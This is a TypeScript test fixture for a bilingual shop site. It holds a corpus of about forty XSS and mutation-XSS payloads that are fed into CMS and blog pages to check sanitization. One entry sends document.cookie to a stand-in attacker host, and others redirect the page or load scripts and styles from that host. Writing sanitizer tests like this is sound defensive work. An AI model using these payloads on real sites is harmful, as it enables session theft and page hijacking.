import type { Locale } from 'otthon';

/** Where a payload that got through would send the shopper or their data. */
export const ATTACKER_ORIGIN = 'http://evil.example';

/**
 * Markup that runs script, leaves the site or rewrites the page when it reaches the DOM unsanitized
 * (OWASP XSS filter evasion, DOMPurify's mutation-XSS history). Each one calls `alert` or asks
 * {@link ATTACKER_ORIGIN}, so a payload that got through shows as a dialog, a request or a CSP
 * report. Every element is closed, so none of them swallows the text after it.
 */
export const XSS_CORPUS: ReadonlyArray<{ name: string; html: string }> = [
  { name: 'script element', html: `<script>alert('script')</script><scr<script>ipt>alert('split')</script>` },
  { name: 'img onerror', html: `<img src="x" onerror="alert('img-onerror')">` },
  { name: 'onerror exfiltration', html: `<img src="/missing.png" onerror="fetch('${ATTACKER_ORIGIN}/steal?c='+document.cookie)">` },
  { name: 'body onload', html: `<body onload="alert('body-onload')"></body>` },
  { name: 'onmouseover', html: `<div onmouseover="alert('mouseover')">hover</div>` },
  { name: 'autofocus onfocus', html: `<input autofocus onfocus="alert('autofocus')"><div tabindex="0" autofocus onfocus="alert('div-autofocus')">x</div>` },
  { name: 'details ontoggle', html: `<details open ontoggle="alert('ontoggle')"><summary>s</summary>d</details>` },
  { name: 'media onerror', html: `<video><source onerror="alert('source')"></video><audio src="x" onerror="alert('audio')"></audio>` },
  {
    name: 'javascript: href',
    html: `<a href="javascript:alert('js-href')">a</a><a href="JaVaScRiPt:alert('case')">b</a><a href=" &#14; javascript:alert('space')">c</a>`,
  },
  {
    name: 'encoded javascript: href',
    html: `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('entities')">d</a><a href="jav&#x09;ascript:alert('tab')">e</a>`,
  },
  { name: 'data: href', html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">f</a>` },
  { name: 'vbscript: href', html: `<a href="vbscript:msgbox('vb')">g</a>` },
  { name: 'javascript: src', html: `<img src="javascript:alert('img-src')"><iframe src="javascript:alert('iframe-src')"></iframe>` },
  {
    name: 'form action and formaction',
    html: `<form action="javascript:alert('action')"><button formaction="javascript:alert('formaction')">go</button><input type="submit" formaction="${ATTACKER_ORIGIN}/form"></form>`,
  },
  { name: 'svg xlink:href', html: `<svg><a xlink:href="javascript:alert('xlink')"><text x="20" y="20">svg link</text></a></svg>` },
  { name: 'svg onload', html: `<svg onload="alert('svg-onload')"></svg><svg><image href="x" onerror="alert('svg-image')"></image></svg>` },
  {
    name: 'svg animate href',
    html: `<svg><a><animate attributeName="href" values="javascript:alert('animate')"></animate><text x="20" y="20">animated</text></a></svg>`,
  },
  { name: 'svg set href', html: `<svg><a><set attributeName="href" to="javascript:alert('set')"></set><text x="20" y="20">set</text></a></svg>` },
  {
    name: 'svg foreignObject',
    html: `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert('foreign')&lt;/script&gt;"></iframe><img src="x" onerror="alert('foreign-img')"></foreignObject></svg>`,
  },
  { name: 'svg style namespace confusion', html: `<svg></p><style><a id="</style><img src=x onerror=alert('svg-style')>"></style></svg>` },
  { name: 'svg CDATA', html: `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert('cdata')//"></svg>` },
  { name: 'MathML maction', html: `<math><maction actiontype="statusline#" xlink:href="javascript:alert('maction')">m</maction></math>` },
  { name: 'MathML mglyph style', html: `<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')></style></mglyph></table></mtext></math>` },
  {
    name: 'MathML form mutation',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('mxss-form')></style></mglyph></form></mtext></math></form>`,
  },
  { name: 'MathML style', html: `<math><style><img src=x onerror=alert('math-style')></style></math>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe>` },
  {
    name: 'object and embed',
    html: `<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')"><object data="${ATTACKER_ORIGIN}/plugin.swf"></object>`,
  },
  { name: 'base href', html: `<base href="${ATTACKER_ORIGIN}/">` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=${ATTACKER_ORIGIN}/refresh">` },
  { name: 'style element', html: `<style>@import '${ATTACKER_ORIGIN}/import.css'; body { background: url(${ATTACKER_ORIGIN}/bg.png) }</style>` },
  { name: 'style attribute', html: `<div style="background-image: url(${ATTACKER_ORIGIN}/attr.png)">styled</div>` },
  {
    name: 'link element',
    html: `<link rel="stylesheet" href="${ATTACKER_ORIGIN}/link.css"><link rel="preload" as="script" href="${ATTACKER_ORIGIN}/preload.js">`,
  },
  {
    name: 'DOM clobbering',
    html: `<img name="getElementById"><img name="cookie"><a id="dataLayer"></a><a id="dataLayer" name="push" href="cid:x"></a><img id="__reactRouterContext"><a id="__reactRouterDataRouter"></a><img name="querySelector"><a id="location" href="${ATTACKER_ORIGIN}/">l</a>`,
  },
  { name: 'template', html: `<template><img src=x onerror=alert('template')></template>` },
  { name: 'noscript mutation', html: `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>` },
  { name: 'noembed mutation', html: `<noembed><p title="</noembed><img src=x onerror=alert('noembed')>"></p></noembed>` },
  {
    name: 'title and textarea mutation',
    html: `<title><p title="</title><img src=x onerror=alert('title')>"></p></title><textarea><p title="</textarea><img src=x onerror=alert('textarea')>"></p></textarea>`,
  },
  { name: 'comment mutation', html: `<!--<img src="--><img src=x onerror=alert('comment')//">` },
  { name: 'marquee onstart', html: `<marquee onstart="alert('marquee')">m</marquee>` },
];

/** The harmless sentence after the `index`-th payload, which must still be shown. */
export function keptText(locale: Locale, index: number): string {
  return locale === 'hu' ? `Megmaradó szöveg ${index + 1}.` : `Kept text ${index + 1}.`;
}

/** The CMS and blog HTML: every payload between harmless paragraphs and a closing sentence. */
export function hostileHtml(locale: Locale): string {
  const parts = XSS_CORPUS.map((payload, index) => `<p>${keptText(locale, index)}</p>${payload.html}`);
  return `<h2>${locale === 'hu' ? 'Bevezető' : 'Introduction'}</h2>${parts.join('\n')}<p>${keptText(locale, XSS_CORPUS.length)}</p>`;
}

/** A title with markup in it: it must be shown as text, in the heading, the tab and structured data. */
export function hostileTitle(locale: Locale): string {
  return `${locale === 'hu' ? 'Próbaoldal' : 'Test page'} <img src=x onerror=alert('title')> </script><script>alert('json')</script> & "quote"`;
}

/** The CMS page with the corpus (reached by the catch-all route only; no menu links to it). */
export const HOSTILE_PAGE = { id: 990_001, key: 'hostile-markup', slug: { hu: 'tartalom-proba', en: 'content-check' } } as const;

/**
 * The blog article with the corpus: the oldest article, so lists and the pages other journeys
 * open first (the newest article) are not this one.
 */
export const HOSTILE_POST = { id: 990_001, slug: { hu: 'tartalom-proba-cikk', en: 'content-check-article' } } as const;
